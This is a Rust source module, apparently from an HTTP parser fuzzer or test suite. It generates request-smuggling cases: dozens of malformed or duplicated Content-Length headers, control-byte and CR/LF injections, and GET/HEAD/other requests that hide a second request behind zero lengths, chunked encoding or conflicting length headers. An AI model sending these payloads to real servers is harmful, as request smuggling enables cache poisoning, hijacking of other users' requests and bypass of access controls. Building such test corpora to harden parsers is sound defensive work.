//! `Content-Length` that is not one plain number, and bodies of requests that have none.

use super::corpus::{Corpus, Pieces, joined, shown};

/// Whole header lines; `#` is the length of the body with what is hidden in it, `@` of what stands before that.
const LINES: [&str; 84] = [
    "Content-Length: #",
    "Content-Length: @",
    "Content-Length: 0",
    "Content-Length:#",
    "Content-Length:\t#",
    "Content-Length: # ",
    "Content-Length: #\t",
    "Content-Length: +#",
    "Content-Length: -#",
    "Content-Length: -0",
    "Content-Length: +0",
    "Content-Length: - #",
    "Content-Length: 0#",
    "Content-Length: 00000000000000000000#",
    "Content-Length: 0x#",
    "Content-Length: 0x0",
    "Content-Length: 0o#",
    "Content-Length: #.0",
    "Content-Length: #,0",
    "Content-Length: #e0",
    "Content-Length: #_0",
    "Content-Length: 0_#",
    "Content-Length: #;",
    "Content-Length: #;x=1",
    "Content-Length: #,",
    "Content-Length: ,#",
    "Content-Length: #, #",
    "Content-Length: #,#",
    "Content-Length: #, @",
    "Content-Length: @, #",
    "Content-Length: # @",
    "Content-Length: #\t@",
    "Content-Length: \"#\"",
    "Content-Length: '#'",
    "Content-Length: (#)",
    "Content-Length: #\\",
    "Content-Length: #b",
    "Content-Length: x",
    "Content-Length:",
    "Content-Length: ",
    "Content-Length: 18446744073709551615",
    "Content-Length: 18446744073709551616",
    "Content-Length: 184467440737095516160#",
    "Content-Length: 9223372036854775808",
    "Content-Length: 4294967296",
    "Content-Length: 99999999999999999999999999999999999999#",
    "Content-Length : #",
    "Content-Length\t: #",
    " Content-Length: #",
    "\tContent-Length: #",
    "Content_Length: #",
    "Content Length: #",
    "Content-Length:: #",
    "X-Content-Length: #",
    "content-length: #",
    "CONTENT-LENGTH: #",
    "Content-Length: #\r\nContent-Length: #",
    "Content-Length: @\r\nContent-Length: #",
    "Content-Length: #\r\nContent-Length: @",
    "Content-Length: 0\r\nContent-Length: #",
    "Content-Length: #\r\nContent-Length: 0",
    "Content-Length: #\r\nContent-Length:",
    "Content-Length:\r\nContent-Length: #",
    "Content-Length: #\r\nContent-Length: x",
    "Content-Length: x\r\nContent-Length: #",
    "Content-Length: @\r\ncontent-length: #",
    "Content-Length: @\r\nContent_Length: #",
    "Content-Length: @\r\nContent-Length : #",
    "Content-Length: @\r\n Content-Length: #",
    "Content-Length: @\r\n #",
    "Content-Length:\r\n #",
    "Content-Length: \r\n\t#",
    "Content-Length\r\n: #",
    "Content-Length\r\n : #",
    "X: X\nContent-Length: #",
    "X: X\rContent-Length: #",
    "X: X\r\n Content-Length: #",
    "Content-Length: @\nContent-Length: #",
    "Content-Length: @\rContent-Length: #",
    "Content-Length: #\r",
    "Content-Length: #\nX: X",
    "Content-Length: #\rX: X",
    "Connection: Content-Length\r\nContent-Length: #",
    "Content-Length: #\r\nConnection: keep-alive, Content-Length",
];

/// Methods of requests whose body many programs do not look for.
const METHODS: [&str; 12] = [
    "GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "PUT", "PATCH", "PROPFIND", "post", "Post", "PURGE",
    "CONNECT",
];

pub(super) fn add(corpus: &mut Corpus) {
    for line in LINES {
        corpus.push("length", line.escape_debug().to_string(), |pieces| post(pieces, line.as_bytes()));
        corpus.push("length of a GET", line.escape_debug().to_string(), |pieces| {
            let body = pieces.hidden();
            let line = line.replace('#', &body.len().to_string()).replace('@', "0");
            joined(&[&pieces.get(), line.as_bytes(), b"\r\n\r\n", &body])
        });
    }
    for byte in (0..=0x20).chain(0x7f..=0xff).filter(|byte| *byte != b'\n') {
        for line in [
            [b"Content-Length:".as_slice(), &[byte], b"#"],
            [b"Content-Length", &[byte], b": #"],
            [b"Content-Length: #", &[byte], b""],
        ] {
            let line = line.concat();
            corpus.push("length", shown(&line), |pieces| post(pieces, &line));
        }
    }
    for method in METHODS {
        for target in ["/leads", "/form"] {
            bodies(corpus, method, target);
        }
    }
}

/// A form whose last value is the hidden request.
fn post(pieces: Pieces, line: &[u8]) -> Vec<u8> {
    let (form, hidden) = (pieces.form(), pieces.hidden());
    let mut framed = Vec::new();
    for byte in line {
        match byte {
            b'#' => framed.extend((form.len() + hidden.len()).to_string().into_bytes()),
            b'@' => framed.extend(form.len().to_string().into_bytes()),
            other => framed.push(*other),
        }
    }
    joined(&[&pieces.post(), &framed, b"\r\n\r\n", &form, &hidden])
}

/// The hidden request as the body of a method that has none, by length, in a chunk, and behind a length of nothing.
fn bodies(corpus: &mut Corpus, method: &str, target: &str) {
    let name = |how: &str| format!("{method} {target} {how}");
    let start = |pieces: Pieces| pieces.start(method, target, "HTTP/1.1");
    corpus.push("body of a method", name("length"), |pieces| {
        let length = format!("Content-Length: {}\r\n\r\n", pieces.hidden().len());
        joined(&[&start(pieces), length.as_bytes(), &pieces.hidden()])
    });
    corpus.push("body of a method", name("no length"), |pieces| {
        joined(&[&start(pieces), b"\r\n", &pieces.hidden()])
    });
    corpus.push("body of a method", name("length 0"), |pieces| {
        joined(&[&start(pieces), b"Content-Length: 0\r\n\r\n", &pieces.hidden()])
    });
    corpus.push("body of a method", name("chunk"), |pieces| {
        let body = super::corpus::chunk(&pieces.hidden());
        joined(&[&start(pieces), b"Transfer-Encoding: chunked\r\n\r\n", &body, b"0\r\n\r\n"])
    });
    corpus.push("body of a method", name("no chunk"), |pieces| {
        joined(&[&start(pieces), b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", &pieces.hidden()])
    });
    corpus.push("body of a method", name("both"), |pieces| {
        let body = super::corpus::chunk(&pieces.hidden());
        joined(&[
            &start(pieces),
            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n",
            &body,
            b"0\r\n\r\n",
        ])
    });
}
